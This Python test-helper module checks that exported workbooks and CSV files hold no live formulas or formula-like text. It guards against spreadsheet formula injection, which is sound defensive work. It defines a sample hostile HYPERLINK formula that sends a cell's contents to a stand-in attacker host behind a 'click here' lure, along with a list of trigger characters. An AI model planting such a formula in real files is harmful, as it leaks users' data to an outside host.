"""Checks shared by the export tests: an exported workbook or CSV holds no formula and no text that a
spreadsheet would take for one."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from openpyxl import load_workbook

HOSTILE = '=HYPERLINK("http://evil.example/steal?x="&A1,"点此")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMERAL = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def _live(text: str) -> bool:
    return text.startswith(TRIGGERS) and not _NUMERAL.fullmatch(text)


def inert_xlsx(content: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet's values by sheet title, after asserting that no cell is a formula or starts like one."""
    wb = load_workbook(io.BytesIO(content))
    out = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and _live(cell.value)), (
                    ws.title,
                    cell.coordinate,
                    cell.value,
                )
        out[ws.title] = [list(r) for r in ws.iter_rows(values_only=True)]
    return out


def inert_csv(content: bytes) -> list[list[str]]:
    """The CSV's rows, after asserting that no field starts like a formula."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not _live(value), (row, value)
    return rows
